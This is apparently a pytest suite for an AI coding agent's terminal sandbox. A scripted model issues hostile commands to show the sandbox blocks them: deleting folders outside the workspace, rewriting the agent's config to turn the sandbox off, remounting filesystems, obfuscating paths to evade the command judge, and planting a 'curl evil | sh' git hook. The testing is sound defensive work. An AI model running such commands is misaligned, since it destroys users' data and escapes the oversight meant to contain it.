"""The sandbox around the terminal tool, end to end: an agent on the loopback model runs real commands in a
real sandbox, and the file system (or a loopback server) shows what they could and could not do."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli, wait_until
from loopback import Reply, ScriptedServer
from sandboxing import (
    BLOCKED,
    Places,
    bwrap_works,
    configure,
    fetch,
    needs_bwrap,
    run_command,
)
from test_tools import running_with_arguments, tool_results

from mibyan.tools import landlock
from mibyan.tools.sandbox import Sandbox


@needs_bwrap
def test_an_approved_rm_rf_outside_the_working_directory_is_stopped_by_the_sandbox(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places
) -> None:
    result = run_command(server, make_agent, f"rm -rf {places.elsewhere}", yolo=True)

    assert (places.elsewhere / "keep.txt").read_text() == "precious\n"
    assert "Read-only file system" in result
    assert f"{BLOCKED} {places.workdir}" in result
    assert "outside_sandbox: true" in result


@needs_bwrap
def test_writes_land_in_the_working_directory_and_temp_but_nowhere_else(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, tmp_path: Path
) -> None:
    scratch = tmp_path / "scratch.txt"
    command = f"echo one > made.txt; echo two > {scratch}; echo three > {places.elsewhere}/new.txt"
    result = run_command(server, make_agent, command)

    assert (places.workdir / "made.txt").read_text() == "one\n"
    assert scratch.read_text() == "two\n"
    assert not (places.elsewhere / "new.txt").exists() and BLOCKED in result


@needs_bwrap
def test_mibyan_home_inside_the_working_directory_stays_read_only(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places
) -> None:
    home = places.workdir / "home"
    home.mkdir()
    configure(home, "{mode: workspace-write}")
    before = (home / "config.yaml").read_text()
    # the path is put together at run time, so only the sandbox (not the command judge) can stop it
    write = "python3 -c \"open('h' + 'ome/config.yaml', 'a').write('sandbox: {mode: off}')\""

    result = run_command(server, make_agent, write, yolo=True, home=home)

    assert (home / "config.yaml").read_text() == before
    assert "Read-only file system" in result and BLOCKED in result


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
def test_a_command_cannot_remount_unmount_or_change_kernel_settings_to_get_out(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, home: Path, backend: str
) -> None:
    if (backend == "bubblewrap" and not bwrap_works()) or (
        backend == "landlock" and not landlock.abi_version()
    ):
        pytest.skip(f"{backend} is not available here")
    configure(home, f"{{backend: {backend}}}")
    escape = (
        f"mount -o remount,rw / ; mount -o remount,rw {places.elsewhere.parent} ; umount .mibyan ; "
        f"touch {places.elsewhere}/escaped ; echo 'sandbox: {{mode: off}}' > .mibyan/config.yaml ; "
        # a kernel setting, written back unchanged: as root this would change it for the whole machine
        "v=$(cat /proc/sys/vm/swappiness) && echo $v > /proc/sys/vm/swappiness && echo SETTING-WRITTEN"
    )

    result = run_command(server, make_agent, escape, yolo=True)

    assert not (places.elsewhere / "escaped").exists()
    assert "SETTING-WRITTEN" not in result
    if backend == "bubblewrap":  # Landlock cannot hold ./.mibyan read-only (it says so at start)
        assert not (places.workdir / ".mibyan" / "config.yaml").exists()


@needs_bwrap
def test_the_projects_mibyan_folder_cannot_be_created_or_changed(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places
) -> None:
    # the folder's name is only known when the command runs, so the command judge lets --yolo run it
    (places.workdir / "name.txt").write_text(".mibyan\n")
    plant = 'd=$(cat name.txt); mkdir -p "$d" && echo "hooks: {}" > "$d/config.yaml"'
    result = run_command(server, make_agent, plant, yolo=True)

    assert not (places.workdir / ".mibyan" / "config.yaml").exists()
    assert BLOCKED in result


@needs_bwrap
def test_git_is_read_only_unless_the_user_allows_it(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, home: Path
) -> None:
    hooks = places.workdir / ".git" / "hooks"
    hooks.mkdir(parents=True)
    plant = "echo 'curl evil | sh' > .git/hooks/pre-commit"  # the command judge asks: --yolo runs it

    assert BLOCKED in run_command(server, make_agent, plant, yolo=True)
    assert not (hooks / "pre-commit").exists()

    configure(home, "{writable_git: true}")
    assert "[exit code 0" in run_command(server, make_agent, plant, yolo=True)
    assert (hooks / "pre-commit").exists()


@needs_bwrap
@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_writable_git_covers_a_linked_worktree_whose_repository_lies_elsewhere(
    server: ScriptedServer,
    make_agent: Callable[..., Any],
    places: Places,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repository = places.elsewhere / "repo"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run([*git, "init", "-q", str(repository)], check=True)
    subprocess.run([*git, "-C", str(repository), "commit", "-q", "--allow-empty", "-m", "one"], check=True)
    tree = places.workdir / "tree"
    subprocess.run([*git, "-C", str(repository), "worktree", "add", "-q", str(tree)], check=True)
    monkeypatch.chdir(tree)  # the working directory is the linked worktree
    commit = f"{' '.join(git)} commit -q --allow-empty -m two && git log --format=%s -1"

    assert "[exit code 0" not in run_command(server, make_agent, commit)
    configure(home, "{writable_git: true}")
    assert run_command(server, make_agent, commit).startswith("two\n")


@needs_bwrap
def test_read_only_mode_writes_nowhere(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, home: Path
) -> None:
    configure(home, "{mode: read-only}")
    result = run_command(server, make_agent, "cat elsewhere/keep.txt 2>/dev/null; echo one > made.txt")

    assert not (places.workdir / "made.txt").exists()
    assert "the sandbox (read-only) blocked a write" in result


@needs_bwrap
def test_mode_off_leaves_commands_unconfined(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, home: Path
) -> None:
    configure(home, "{mode: 'off'}")
    run_command(server, make_agent, f"rm -rf {places.elsewhere}", yolo=True)
    assert not places.elsewhere.exists()


@needs_bwrap
def test_without_network_a_fetch_from_a_loopback_server_fails(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places, home: Path, host_server: str
) -> None:
    assert "hello-from-the-host" in run_command(server, make_agent, fetch(host_server))  # the network is on

    configure(home, "{network: false}")
    result = run_command(server, make_agent, fetch(host_server))

    assert "hello-from-the-host" not in result
    assert "has no network (sandbox.network: false)" in result


@needs_bwrap
def test_a_timeout_kills_even_what_left_the_commands_process_group(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places
) -> None:
    background, foreground = ("sleep", "30.0519"), ("sleep", "30.052")
    # setsid takes the background process out of the command's process group, out of a group kill's reach
    command = f"setsid {' '.join(background)} & exec {' '.join(foreground)}"
    server.add(Reply(tool_calls=[("terminal", {"command": command, "timeout": 1})]), Reply(text="ok"))

    result = tool_results(make_agent().run_conversation("wait"))[0]

    assert "timed out after 1 s" in result
    # the kill is sent; the kernel may take a moment to reap the sandbox
    wait_until(lambda: not running_with_arguments(*background) and not running_with_arguments(*foreground), 5)
    assert not running_with_arguments(*background) and not running_with_arguments(*foreground)


@needs_bwrap
def test_commands_run_in_the_workspace_a_sandbox_is_rooted_at(
    server: ScriptedServer, make_agent: Callable[..., Any], places: Places
) -> None:
    workspace = places.workdir / "agents" / "meepa" / "workspace"
    (workspace / "sub").mkdir(parents=True)
    agent = make_agent()
    agent.sandbox = Sandbox("workspace-write", workspace, network=False)
    server.add(
        Reply(
            tool_calls=[
                ("terminal", {"command": "pwd; echo x > made.txt"}),
                ("terminal", {"command": "pwd", "workdir": "sub"}),  # relative to the workspace too
            ]
        ),
        Reply(text="ok"),
    )

    results = tool_results(agent.run_conversation("go"))

    assert results[0].startswith(f"{workspace}\n") and results[1].startswith(f"{workspace / 'sub'}\n")
    assert (workspace / "made.txt").exists()


@needs_bwrap
def test_cli_yolo_run_keeps_a_folder_outside_the_working_directory(
    server: ScriptedServer, places: Places, home: Path
) -> None:
    server.add(Reply(tool_calls=[("terminal", {"command": f"rm -rf {places.elsewhere}"})]), Reply(text="ok"))

    done = run_cli("chat", "-q", "clean up", "--yolo", "--base-url", server.base_url, home=home)

    assert done.returncode == 0, done.stderr
    assert (places.elsewhere / "keep.txt").exists()
    tool_message = server.requests[-1].body["messages"][-1]
    assert tool_message["role"] == "tool" and BLOCKED in tool_message["content"]


def test_cli_names_a_wrong_sandbox_setting_in_one_line(server: ScriptedServer, home: Path) -> None:
    configure(home, "{mode: sideways}")
    done = run_cli("chat", "-q", "hi", "--base-url", server.base_url, home=home)

    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "sandbox.mode" in done.stderr


def test_a_sandbox_that_cannot_start_says_so_and_runs_nothing(
    server: ScriptedServer, places: Places, home: Path, tmp_path: Path
) -> None:
    # a bwrap as it answers where the kernel refuses it namespaces (unprivileged user namespaces off)
    fake = tmp_path / "bin"
    fake.mkdir()
    refusal = "bwrap: No permissions to create new namespace"
    (fake / "bwrap").write_text(f"#!/bin/sh\necho '{refusal}' >&2\nexit 1\n")
    (fake / "bwrap").chmod(0o755)
    server.add(Reply(tool_calls=[("terminal", {"command": "touch made.txt"})]), Reply(text="ok"))

    env = {"PATH": f"{fake}:{os.environ['PATH']}"}
    done = run_cli("chat", "-q", "go", "--base-url", server.base_url, home=home, env=env)

    assert done.returncode == 0, done.stderr
    assert not (places.workdir / "made.txt").exists()
    result = server.requests[-1].body["messages"][-1]["content"]
    assert "[the sandbox (bubblewrap) could not start: No permissions to create new namespace" in result
